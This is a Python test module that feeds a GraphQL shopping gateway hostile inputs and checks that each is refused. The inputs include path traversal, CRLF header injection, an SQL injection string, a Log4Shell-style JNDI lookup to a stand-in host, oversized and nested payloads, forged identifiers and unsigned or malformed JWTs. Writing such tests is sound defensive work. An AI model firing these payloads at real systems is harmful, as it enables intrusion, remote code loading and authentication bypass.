"""Values that fit their type and mean no good: identifiers, cursors, sizes and texts, and tokens of nobody."""

import base64
import json
from collections.abc import Container

import msgspec

from tests.hostile.inputs import CLOSE, HOST, JSON, TOKEN, Input, asking, head, post, to
from tests.hostile.shop import CART, CART_ID, CUSTOMER, CUSTOMER_ID

_UNFIT = "BAD_USER_INPUT"
_WRONG = "INVALID_INPUT"
_STRANGER = "UNAUTHENTICATED"
_QUERY = json.dumps({"query": f'{{ cart(by: {{id: "{CART_ID}"}}) {{ id }} }}'}).encode()
_NODE = "query($v: ID!) { node(id: $v) { id } }"
_CART = "query($v: CartReferenceInput!) { cart(by: $v) { id } }"
_CUSTOMER = "query($v: String!) { customer(by: {tenantId: $v}) { id } }"
_ORDER = (
    f'query($v: String!) {{ order(by: {{partnerCenter: {{customerTenantId: "{CUSTOMER}", orderId: $v}}}}) {{ id }} }}'
)
_PRODUCT = "query($v: String!) { product(by: {partnerCenterId: $v}) { id } }"
_SKU = "query($v: String!) { sku(by: {partnerCenterId: $v}) { id } }"
_AVAILABILITY = "query($v: String!) { availability(by: {catalogItemId: $v}) { id } }"
_VIEW = "query($v: [CatalogView!]!) { products(views: $v) { totalCount } }"
_SEARCH = "query($v: String) { products(query: $v) { totalCount } }"
_COUNTRY = "query($v: CountryCode) { products(country: $v) { totalCount } }"
_FIRST = "query($v: Int) { customers(first: $v) { totalCount } }"
_AFTER = "query($v: String) { customers(after: $v) { totalCount } }"
_NAMED = "query($v: String) { customers(companyNameStartsWith: $v) { totalCount } }"
_PARTNER = "query($v: String) { partner(mpnId: $v) { name } }"
_CREATE = "mutation($v: CreateCartInput!) { createCart(input: $v) { errors { code message path } } }"
_REMOVE = "mutation($v: RemoveCartLineItemsInput!) { removeCartLineItems(input: $v) { errors { code } } }"
_CHECKOUT = "mutation($v: CheckoutCartInput!) { checkoutCart(input: $v) { errors { code } } }"


def _sent(name: str, query: str, value: object, *codes: str) -> Input:
    return to(name, asking(query, variables={"v": value}), 200, *codes)


def _unfit(name: str, query: str, value: object, *codes: str) -> Input:
    """A value that does not fit its type, so that nothing runs."""
    return to(name, asking(query, variables={"v": value}), 422, *codes)


def _each_odd(place: str, query: str, *codes: str, absent: Container[str] = frozenset()) -> tuple[Input, ...]:
    """Each odd text is refused with these codes; those *absent* are looked for and are null."""
    return tuple(
        _sent(f"{name} as {place}", query, text, *(() if name in absent else codes)) for name, text in ODD_TEXTS.items()
    )


def _packed(*values: object) -> str:
    """As the gateway's own identifiers and cursors are made."""
    return base64.urlsafe_b64encode(msgspec.msgpack.encode(values)).decode().rstrip("=")


def _cart(tenant: str, cart: str) -> dict[str, object]:
    return {"partnerCenter": {"customerTenantId": tenant, "cartId": cart}}


def _line(**members: object) -> dict[str, object]:
    line = {"catalogItemId": "CFQ7TTC0LH18:0001:CFQ7TTC0K971", "quantity": 1, "billingCycle": "MONTHLY", **members}
    return {"customer": {"tenantId": CUSTOMER}, "lineItems": [line]}


def _token(name: str, *authorization: bytes, statuses: int = 401, codes: tuple[str, ...] = (_STRANGER,)) -> Input:
    return to(name, post(_QUERY, *authorization, of=(HOST, CLOSE, JSON)), statuses, *codes)


def _refused_upstream(name: str, authorization: bytes) -> Input:
    """A token that only Partner Center can judge."""
    return _token(name, authorization, statuses=200)


def _jwt(algorithm: str, **claims: object) -> bytes:
    parts = ({"typ": "JWT", "alg": algorithm}, claims)
    encoded = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in parts]
    return b"Authorization: Bearer " + b".".join([*encoded, b""])


_NOTHING: list[dict[str, str]] = [{}]

ODD_TEXTS = {
    "a way upwards": "../../orders",
    "an escaped way upwards": "..%2f..%2forders",
    "a question mark": f"{CART}?a=b",
    "a hash": f"{CART}#",
    "a line end": f"{CART}\r\nX-Evil: 1",
    "a zero": f"{CART}\0",
    "another server": "http://elsewhere.example/",
    "a name of two dots": "..",
    "nothing": "",
    "a blank": " ",
    "braces": "{28089560-09e9-4305-9944-5fb2b1a786e5}",
    "SQL": "' OR 1=1 --",
    "a template": "${jndi:ldap://elsewhere.example/a}",
    "60,000 letters": "a" * 60_000,
    "letters beyond ASCII": "\U0001d7e4\U0001d7ea089560-09e9-4305-9944-5fb2b1a786e5",
}

OPAQUE = frozenset({"braces", "SQL", "letters beyond ASCII"})
"""Odd, but nothing says that Partner Center has no such ids; they are looked for and not found."""

ODD_PLACES = (
    *_each_odd("a node", _NODE),
    *_each_odd("a customer", _CUSTOMER, _UNFIT),
    *_each_odd("an order", _ORDER, _UNFIT, absent=OPAQUE),
    *_each_odd("a product", _PRODUCT, _UNFIT, absent=OPAQUE),
    *_each_odd("a SKU", _SKU, _UNFIT),
    *_each_odd("an availability", _AVAILABILITY, _UNFIT),
    *_each_odd("a partner", _PARTNER, _UNFIT),
)
VIEWS = tuple(_unfit(f"{name} as a view", _VIEW, text, _UNFIT) for name, text in ODD_TEXTS.items())
SEARCHES = tuple(
    _sent(f"{name} as a search", _SEARCH, text, *([_UNFIT] if name == "60,000 letters" else []))
    for name, text in ODD_TEXTS.items()
)

FORGED = (
    _sent("a node of another kind", _CART, {"id": CUSTOMER_ID}),
    _sent("a node of an unknown kind", _NODE, _packed(1, "z", CUSTOMER)),
    _sent("a node of another version", _NODE, _packed(99, "c", CUSTOMER, CART)),
    _sent("a node with a way upwards", _NODE, _packed(1, "c", CUSTOMER, "../../orders")),
    _sent("a node with too many parts", _NODE, _packed(1, "c", CUSTOMER, CART, CART)),
    _sent("a node with too few parts", _NODE, _packed(1, "c", CUSTOMER)),
    _sent("a node with an object", _NODE, _packed(1, "c", {"a": 1}, [CART])),
    _sent("a node of deep lists", _NODE, base64.urlsafe_b64encode(b"\x91" * 700).decode()),
    _sent("a node of rubbish", _NODE, "////++++===="),
    _sent("a cart of a customer of another partner", _CART, _cart("11111111-1111-1111-1111-111111111111", CART)),
    _sent("the cart of one customer under another", _CART, _cart("c501c3c4-d776-40ef-9ecf-9cefb59442c1", CART)),
    _sent("a customer's orders as a cart", _CART, _cart(CUSTOMER, "../orders"), _UNFIT),
    _sent("two customers in one", _CART, _cart(f"{CUSTOMER}/carts/{CART}/../..", CART), _UNFIT),
    _sent("a line of another cart", _REMOVE, {"cartId": CART_ID, "lineItemIds": [_packed(1, "l", CUSTOMER, CART, "0", "x")]}, "CART_LINE_ITEM_NOT_FOUND"),
    _sent("no line", _REMOVE, {"cartId": CART_ID, "lineItemIds": []}, _WRONG),
    _sent("20,000 lines that are none", _REMOVE, {"cartId": CART_ID, "lineItemIds": ["a"] * 20_000}, _WRONG),
    _sent("lines that are none by long names", _REMOVE, {"cartId": CART_ID, "lineItemIds": [f"{n:01000}" for n in range(200)]}, "CART_LINE_ITEM_NOT_FOUND", _WRONG),
    _sent("a cart by a name of 200,000 letters", _REMOVE, {"cartId": "a" * 200_000, "lineItemIds": ["a"]}, _WRONG),
    _sent("500 lines that are none", _REMOVE, {"cartId": CART_ID, "lineItemIds": ["a"] * 500}, _WRONG),
    _sent("a purchase of a customer", _CHECKOUT, {"cartId": CUSTOMER_ID}, "CART_NOT_FOUND"),
    _sent("a purchase with a version of rubbish", _CHECKOUT, {"cartId": CART_ID, "expectedVersion": "\0" * 1000}, "CART_VERSION_CONFLICT"),
    _sent("a purchase with a key of 200,000 letters", _CHECKOUT, {"cartId": CART_ID, "idempotencyKey": "k" * 200_000}, _WRONG),
    _sent("a purchase with a key of line ends", _CHECKOUT, {"cartId": CART_ID, "idempotencyKey": "\r\n" * 20}, _WRONG),
)  # fmt: skip

SIZES = (
    _sent("a page of nothing", _FIRST, 0, _UNFIT),
    _sent("a page of less than nothing", _FIRST, -1, _UNFIT),
    _sent("a page of 101", _FIRST, 101, _UNFIT),
    _sent("a page of two billions", _FIRST, 2_147_483_647, _UNFIT),
    _unfit("a page beyond 32 bits", _FIRST, 2_147_483_648, _UNFIT),
    _unfit("a page of a fraction", _FIRST, 1.5, _UNFIT),
    _unfit("a page of 100 digits", _FIRST, 10**99, _UNFIT),
    _unfit("a page of a text", _FIRST, "5", _UNFIT),
    _unfit("a page of true", _FIRST, True, _UNFIT),
    _sent("a cursor of rubbish", _AFTER, "%%%", _UNFIT),
    _sent("a cursor of 200,000 letters", _AFTER, "A" * 200_000, _UNFIT),
    _sent("a cursor of an absurd place", _AFTER, _packed(1, "c", "", 0, 2**63, ""), _UNFIT),
    _sent("a cursor below nothing", _AFTER, _packed(1, "c", "", 0, -5, ""), _UNFIT),
    _sent("a cursor of a node", _AFTER, CUSTOMER_ID, _UNFIT),
    _sent("a name with a filter's end", _NAMED, '"}, "Operator": "all'),
    _sent("a name of 200,000 letters", _NAMED, "a" * 200_000, _UNFIT),
    _sent("a name of zeros", _NAMED, "\0" * 100),
    _sent("a country of nowhere", _COUNTRY, "XX"),
    _unfit("a country with a way upwards", _COUNTRY, "../", _UNFIT),
    _unfit("a country with a second parameter", _COUNTRY, "US&country=SE", _UNFIT),
    _unfit("a country of 200,000 letters", _COUNTRY, "U" * 200_000, _UNFIT),
    _unfit("a country that is a list", _COUNTRY, ["US"], _UNFIT),
    _sent("no seats", _CREATE, _line(quantity=0), _WRONG),
    _sent("fewer than no seats", _CREATE, _line(quantity=-5), _WRONG),
    _sent("two billion seats", _CREATE, _line(quantity=2_147_483_647)),
    _unfit("seats beyond 32 bits", _CREATE, _line(quantity=10**12), _UNFIT),
    _unfit("seats as a fraction", _CREATE, _line(quantity=0.5), _UNFIT),
    _unfit("an amount of a billion digits", _CREATE, _line(purchaseCommitment={"amount": "1e999999999", "currencyCode": "USD", "grain": "hourly"}), _UNFIT),
    _unfit("an amount of 200,000 digits", _CREATE, _line(purchaseCommitment={"amount": "9" * 200_000, "currencyCode": "USD", "grain": "hourly"}), _UNFIT),
    _unfit("an amount that is no number", _CREATE, _line(purchaseCommitment={"amount": "NaN", "currencyCode": "USD", "grain": "hourly"}), _UNFIT),
    _unfit("an amount beyond any", _CREATE, _line(purchaseCommitment={"amount": "-Infinity", "currencyCode": "USD", "grain": "hourly"}), _UNFIT),
    _unfit("an amount in other digits", _CREATE, _line(purchaseCommitment={"amount": "١٢٣", "currencyCode": "USD", "grain": "hourly"}), _UNFIT),
    _unfit("an amount as a float", _CREATE, _line(purchaseCommitment={"amount": 1e300, "currencyCode": "USD", "grain": "hourly"}), _UNFIT),
    _sent("a term of absurd years", _CREATE, _line(termDuration="P99999999999999999999Y")),
    _unfit("a term below nothing", _CREATE, _line(termDuration="-P1Y"), _UNFIT),
    _sent("a term of 200,000 digits", _CREATE, _line(termDuration="P" + "9" * 200_000 + "Y"), _WRONG),
    _unfit("an end before time", _CREATE, _line(customTermEndDate="0000-00-00T00:00:00Z"), _UNFIT),
    _unfit("an end after time", _CREATE, _line(customTermEndDate="99999-01-01T00:00:00Z"), _UNFIT),
    _unfit("an end as a number", _CREATE, _line(customTermEndDate=1e300), _UNFIT),
    _sent("a name with line ends", _CREATE, _line(friendlyName="a\r\nb\0c")),
    _sent("a name of a line of 200,000 letters", _CREATE, _line(friendlyName="a" * 200_000), _WRONG),
    _unfit("lines in lines", _CREATE, _line(addonItems=[_line(addonItems=[_line(addonItems=[])["lineItems"]])["lineItems"]]), _UNFIT),
    _sent("20 lines in one another", _CREATE, json.loads('{"customer": {"tenantId": "a"}, "lineItems": ' + '[{"catalogItemId": "a", "quantity": 1, "billingCycle": "MONTHLY", "addonItems": ' * 20 + "[]" + "}]" * 20 + "}"), _WRONG),
    _sent("2,000 lines", _CREATE, {"customer": {"tenantId": CUSTOMER}, "lineItems": [{"catalogItemId": "a:b:c", "quantity": 1, "billingCycle": "MONTHLY"}] * 2_000}, _WRONG),
    _sent("no lines", _CREATE, {"customer": {"tenantId": CUSTOMER}, "lineItems": []}, _WRONG),
    _unfit("20,000 lines of nothing", _CREATE, {"customer": {"tenantId": CUSTOMER}, "lineItems": _NOTHING * 20_000}, _UNFIT),
    _unfit("15,000 members that nobody knows", _CREATE, {f"a{n}": n for n in range(15_000)}, _UNFIT),
    _sent("7,000 values of provisioning", _CREATE, _line(provisioningContext=[{"key": f"k{n}", "value": ""} for n in range(7_000)]), _WRONG),
    _unfit("an enumeration in small letters", _CREATE, _line(billingCycle="monthly"), _UNFIT),
    _unfit("an enumeration of 200,000 letters", _CREATE, _line(billingCycle="M" * 200_000), _UNFIT),
    _sent("a key that is too short", _CREATE, {**_line(), "idempotencyKey": "k"}, _WRONG),
    _sent("a key beyond ASCII", _CREATE, {**_line(), "idempotencyKey": "ключ-ключ"}, _WRONG),
    to("an unfit value of a variable that nobody uses", asking("query($v: Int) { __typename }", variables={"v": "a"}), 422, "GRAPHQL_VALIDATION_FAILED"),
)  # fmt: skip

CALLERS = (
    _token("no token"),
    _token("an empty token", b"Authorization: Bearer "),
    _token("no scheme", b"Authorization: " + TOKEN),
    _token("another scheme", b"Authorization: Basic YTpi"),
    _token("an empty header", b"Authorization: "),
    _token("two tokens", b"Authorization: Bearer " + TOKEN, b"Authorization: Bearer " + TOKEN),
    _token("a token and none", b"Authorization: Bearer " + TOKEN, b"Authorization: "),
    _token("two tokens in a line", b"Authorization: Bearer " + TOKEN + b", Bearer " + TOKEN),
    _token("a token with a blank inside", b"Authorization: Bearer a b"),
    _refused_upstream("a token of rubbish", b"Authorization: Bearer rubbish"),
    _token("a token of 17 KB", b"Authorization: Bearer " + b"a" * 17 * 1024),
    _token("a token of 60 KB", b"Authorization: Bearer " + b"a" * 60 * 1024),
    _token("a token of 17 KB that names an identity", _jwt("HS256", tid="a", oid="b", fill="a" * 13_000)),
    _refused_upstream("a token of dots", b"Authorization: Bearer " + b"." * 1000),
    _token("a token beyond ASCII", b"Authorization: Bearer \xff\xfe\xe4"),
    _token("a token with a quote", b'Authorization: Bearer a"b\\c'),
    _refused_upstream("a token without a signature", _jwt("none", tid="f8de8ffc-e4ca-45c1-b0c6-a7c21eddf911", exp=9_999_999_999)),
    _refused_upstream("a token of the past", _jwt("HS256", tid="a", exp=1)),
    _refused_upstream("a token of an absurd time", _jwt("HS256", tid="a", exp=1e300)),
    _refused_upstream("a token whose time is a text", _jwt("HS256", tid="a", exp="never")),
    _refused_upstream("a token of deep lists", b"Authorization: Bearer a." + base64.urlsafe_b64encode(b"[" * 12_000) + b".b"),
    _refused_upstream("a token of deep objects", b"Authorization: Bearer a." + base64.urlsafe_b64encode(b'{"a":' * 2_400) + b".b"),
    _refused_upstream("a token that is cut off", b"Authorization: Bearer " + TOKEN + b"x"),
    _token("a token in the address", b"X-Token: " + TOKEN),
    _token("a token in a cookie", b"Cookie: Authorization=Bearer " + TOKEN),
    _token("a key of the own machine", b"X-Forwarded-For: 127.0.0.1"),
    _token("a scheme in other letters", b"authorization: bEaReR   " + TOKEN, statuses=200, codes=()),
    to("no token for a purchase", post(b'{"query": "mutation { __typename }"}', of=(HOST, CLOSE, JSON)), 401, _STRANGER),
    to("no token for introspection", post(b'{"query": "{ __schema { types { name } } }"}', of=(HOST, CLOSE, JSON)), 401, _STRANGER),
    to("no token for rubbish", post(b"rubbish", of=(HOST, CLOSE, JSON)), 401, _STRANGER),
    to("no token by GET", head(b"GET /graphql?query={__typename} HTTP/1.1", HOST, CLOSE), 401, _STRANGER),
    to("no token for a known document", head(b"GET /graphql/" + b"0" * 64 + b" HTTP/1.1", HOST, CLOSE), 401, _STRANGER),
)  # fmt: skip

INPUTS: tuple[Input, ...] = (*ODD_PLACES, *VIEWS, *SEARCHES, *FORGED, *SIZES, *CALLERS)
